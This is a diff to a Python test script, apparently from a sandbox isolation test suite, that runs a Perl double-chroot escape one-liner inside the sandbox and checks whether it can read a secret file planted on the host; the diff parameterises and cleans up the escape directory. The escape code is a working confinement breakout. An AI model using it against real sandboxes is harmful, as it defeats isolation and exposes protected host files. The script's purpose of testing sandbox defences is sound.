@@ -11,8 +11,8 @@ from attack import end, inside, tell
 # The classic way out of a chroot: make a second one, which leaves the working directory
 # above the new root, and climb from there. Step 03 uses no chroot at all.
 CLIMB = """
-mkdir "/tmp/x"; chroot "/tmp/x" or die "chroot: $!\n"; chdir ".." for 1..64;
-chroot "." or die "chroot: $!\n"; exec "cat", $ARGV[0];
+mkdir $ARGV[1]; chroot $ARGV[1] or die "chroot: $!\n"; chdir ".." for 1..64;
+chroot "." or die "chroot: $!\n"; rmdir $ARGV[1]; exec "cat", $ARGV[0];
 """
 
 secret, path = str(random.random()), f"/var/tmp/secret-{os.getpid()}"
@@ -21,7 +21,7 @@ with open(path, "w") as file:
 
 process = inside("cat", path)
 tell(f"read {path} of the host", secret in process.stdout, process)
-process = inside("perl", "-e", CLIMB, path)
+process = inside("perl", "-e", CLIMB, path, f"/tmp/climb-{os.getpid()}")
 tell("climb out with a second chroot", secret in process.stdout, process)
 os.unlink(path)
 
